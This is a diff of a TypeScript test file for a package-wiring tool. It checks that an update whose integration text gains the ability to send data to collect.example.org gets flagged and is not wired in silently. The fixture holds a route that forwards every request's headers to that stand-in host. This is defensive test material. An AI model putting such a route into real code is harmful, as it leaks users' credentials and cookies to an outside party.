@@ -9,7 +9,7 @@ import { GitFixture, build } from '../generate/git-fixture.ts';
 import { makeProject, serveRegistry, stackyard } from './registry-fixture.ts';
 
 /** A build whose guide creates a file and mounts it; all its steps are wired. */
-function greeter(version: string, greeting: string, path: string): ReturnType<typeof build> {
+function greeter(version: string, greeting: string, route: string): ReturnType<typeof build> {
   const guide = `## Steps
 
 1. Create the file:
@@ -31,44 +31,11 @@ function greeter(version: string, greeting: string, path: string): ReturnType<ty
    \`\`\`
 
    \`\`\`ts wire insert @express routes
-   app.get('${path}', (_req, res) => res.json(greeting));
+   ${route}
    \`\`\`
 `;
   const changes = { base: 'src/greeter', files: ['src/**'] };
   return build('a/greeter', version, changes, { 'INTEGRATION.md': guide });
-}
-
-/** The next version of the greeter: one file, one import and one statement, which now send what the application has. */
-function stealer(): ReturnType<typeof build> {
-  const guide = `## Steps
-
-1. Create the file:
-
-   \`\`\`ts wire file src/greeter.wire.ts
-   import { version } from './greeter/src/index.js';
-
-   export const greeting = {
-     text: 'Good evening',
-     version,
-     isLoud: false,
-   };
-   \`\`\`
-
-2. Mount it:
-
-   \`\`\`ts wire import @express
-   import { greeting } from './greeter.wire.js';
-   \`\`\`
-
-   \`\`\`ts wire insert @express routes
-   app.get('/greeting', (req, res) => {
-     void fetch('https://collect.example.org/h', { headers: req.headers as never });
-     res.json(greeting);
-   });
-   \`\`\`
-`;
-  const changes = { base: 'src/greeter', files: ['src/**'] };
-  return build('a/greeter', '1.2.0', changes, { 'INTEGRATION.md': guide });
 }
 
 /** A build that adds to the file of the other one. Its id sorts after that of the other one. */
@@ -91,6 +58,10 @@ const app = express();
 app.get('/health', (_req, res) => res.end());
 app.use((_req, res) => res.sendStatus(404));
 `;
+const SENDING = `app.get('/greeting', (req, res) => {
+     void fetch('https://collect.example.org/h', { headers: req.headers as never });
+     res.json(greeting);
+   });`;
 const PROJECT = {
   'package.json': '{\n  "type": "module",\n  "dependencies": {\n    "express": "^5.0.0"\n  }\n}\n',
   'src/app.ts': APP,
@@ -108,9 +79,11 @@ const edit = (path: string, from: string, to: string): void => {
 
 beforeEach(async () => {
   const git = new GitFixture();
-  git.commit(greeter('1.0.0', 'Hello', '/hello'));
-  git.commit(greeter('1.1.0', 'Good day', '/greeting'));
-  git.commit(stealer());
+  const route = (path: string): string => `app.get('${path}', (_req, res) => res.json(greeting));`;
+  git.commit(greeter('1.0.0', 'Hello', route('/hello')));
+  git.commit(greeter('1.1.0', 'Good day', route('/greeting')));
+  // The next version sends what the application has.
+  git.commit(greeter('1.2.0', 'Good evening', SENDING));
   git.commit(polite());
   ({ url, index } = await serveRegistry(git));
   project = makeProject(PROJECT);
@@ -193,7 +166,7 @@ test('the published capabilities of a version have those of its blocks', () => {
   expect([hostsOf('1.1.0'), hostsOf('1.2.0')]).toEqual([[], ['collect.example.org']]);
 });
 
-const SENDS = 'its new text sends to collect.example.org';
+const SENDS = 'its new text can send data to collect.example.org';
 
 describe('an update whose text can do more', () => {
   const update = (...args: string[]): Promise<Ended> =>
@@ -251,18 +224,9 @@ describe('an update whose text can do more', () => {
         before: old,
         text,
         why: SENDS,
-        gains: ['sends to collect.example.org'],
+        gains: ['send data to collect.example.org'],
       },
     ]);
-  });
-
-  it('puts the text in with add --wire after the update', async () => {
-    await addFirst();
-    await update('--yes');
-    expect(read('src/app.ts')).not.toContain('collect.example.org');
-    const wired = await run('add', 'a/greeter', '--wire', '--yes', '--no-install');
-    expect([wired.status, wired.stderr]).toEqual([0, '']);
-    expect(read('src/app.ts')).toContain('collect.example.org');
   });
 
   it('wires no build that the user left unwired', async () => {
@@ -305,18 +269,8 @@ test('a step for another framework is left to the user only where no build mount
       'package.json': '{ "type": "module" }\n',
       'src/server.ts': server,
     });
-    const words = [
-      'add',
-      id,
-      '--wire',
-      '--yes',
-      '--no-prove',
-      '--no-install',
-      '--json',
-      '-C',
-      project,
-    ];
-    const { stdout } = await stackyard([...words, '--registry', url]);
+    const rest = ['--no-prove', '--no-install', '--json', '-C', project, '--registry', url];
+    const { stdout } = await stackyard(['add', id, '--wire', '--yes', ...rest]);
     const { data } = JSON.parse(stdout) as {
       data: { plan: { wiring: { action: string; why?: string }[] } };
     };
